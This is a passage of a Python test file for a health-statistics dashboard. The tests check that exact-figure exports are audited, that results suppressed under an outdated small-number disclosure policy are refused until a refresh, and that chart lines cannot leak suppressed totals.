        args=["measures", "--out", str(out), "--exact", "--as", "cli.manager", "--password-stdin"], input=password + "\n")
    assert done.exit_code == 0, done.output
    shown = pd.read_csv(out, keep_default_na=False, na_values=[""])
    shown["geography"] = shown["geography"].str.replace(r"^'(?=[=+\-@])", "", regex=True)  # the safe writer's quote
    m = shown.merge(world.exact, on=KEY, suffixes=("", "_x"))
    assert len(m) == len(world.exact) and (m["numerator"].fillna(-1) == m["numerator_x"].fillna(-1)).all()
    granted = read_audit(audit_url, action="export_exact")
    assert (granted["user"] == "cli.manager").any() and (granted["role"] == "data_manager").any()
    monkeypatch.setenv("BSOL_CLI_ROLE", "data_manager")  # a deployment whose shell is data managers' only
    done = _cli(world, "measures", "--out", str(tmp_path / "m.csv"), "--exact")
    assert done.exit_code == 0, done.output
    assert (read_audit(audit_url, action="export_exact")["role"] == "cli:data_manager").any()


def test_results_refreshed_under_another_policy_are_refused_until_refresh(
        world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Stored secondary-suppression flags follow the policy of the last refresh: a changed policy
    (BSOL_SUPPRESS_MAX=10) must not be served stale flags -- pages, downloads and CLI refuse, with a
    clear message, until `flask refresh` recomputes them under the new policy."""
    if world.name != "tricky":
        pytest.skip("one dataset is enough for the policy check")

    import dataclasses

    from caching import clear_caches
    from callbacks.data import SETTINGS_KEY
    from layouts import ids

    server = world.app.server
    client = server.test_client()
    monkeypatch.setitem(server.config, SETTINGS_KEY, dataclasses.replace(server.config[SETTINGS_KEY], suppress_max=10))
    clear_caches()
    try:
        got = client.get("/download/measure/m02_caseload_emergency_admissions.csv")
        assert got.status_code == 503 and "flask --app app refresh" in got.json["error"]
        assert "suppress 1-7" in got.json["error"] and "suppress 1-10" in got.json["error"]
        refused = client.post("/_dash-update-component", json={
            "output": f"{ids.HOME_CONTENT}.children", "outputs": {"id": ids.HOME_CONTENT, "property": "children"},
            "inputs": [], "state": [], "changedPropIds": []})
        assert refused.status_code == 503
        assert "Figures withheld" in client.get("/_dash-layout").get_data(as_text=True)
    finally:
        clear_caches()
    monkeypatch.undo()
    assert client.get("/download/measure/m02_caseload_emergency_admissions.csv").status_code == 200
    copy = tmp_path / "data"
    shutil.copytree(world.data_dir, copy)
    monkeypatch.setenv("BSOL_DATA_DIR", str(copy))
    monkeypatch.setenv("BSOL_SUPPRESS_MAX", "10")
    out = tmp_path / "measures.csv"
    done = _cli(world, "measures", "--out", str(out))
    assert done.exit_code == 2 and "flask --app app refresh" in done.output and not out.exists()
    assert _cli(world, "refresh").exit_code == 0
    done = _cli(world, "measures", "--out", str(out))
    assert done.exit_code == 0, done.output
    shown = pd.read_csv(out, na_values=["[c]", "[x]"])
    m = shown.merge(world.exact, on=KEY, suffixes=("", "_x"))
    small = m["numerator_x"].between(1, 10) & m["num_disclosive"].fillna(True)
    assert small.any() and m.loc[small, "numerator"].isna().all()  # 1-10 hidden under the new policy
    from data_loaders.db import read_dataset_info, read_engine

    with read_engine(f"duckdb:///{copy / 'bsol.duckdb'}").connect() as conn:
        assert read_dataset_info(conn)["disclosure_policy"].startswith("suppress 1-10;")


def test_spc_line_check_catches_lines_from_exact_values() -> None:
    """The SPC line check is tested too. Twelve months of exactly 103 are shown as 105 (rounded to
    5): a mean line from the exact values (103) gives the exact total back (103 x 12 = 1,236) and is
    caught; the app's line, from the shown points, is 105."""
    from layouts.figures import spc_figure
    from metrics.catalogue import INDICATORS_BY_ID
    from metrics.results import spc_frame
    from metrics.spc import xmr

    ind = INDICATORS_BY_ID["m01_caseload"]
    months = pd.period_range("2023-04", periods=12, freq="M")
    series = pd.DataFrame({
        "indicator_id": ind.id, "measure": 1, "period_type": "month", "period": months.astype(str),
        "period_start": months.start_time.date, "period_end": months.end_time.date,
        "geography_level": "locality", "geography": "East", "breakdown": "none", "group": "All",
        "numerator": 103.0, "denominator": np.nan, "value": 103.0, "lower_ci": np.nan, "upper_ci": np.nan,
        "suppressed": False})
    periods = list(series["period"])

    def payload(frame: pd.DataFrame) -> Any:
        return json.loads(spc_figure(frame, periods, ind, "test").to_json())

    ours = spc_frame(series, ind)
    assert set(ours["mean"]) == {105.0} and spc_lines(payload(ours)) == 0
    from_exact = xmr(series["value"].to_numpy(float), dates=pd.to_datetime(series["period_start"]))
    from_exact["value"] = ours["value"].to_numpy()  # shown points, lines from the exact values
    assert spc_lines(payload(from_exact)) == 1
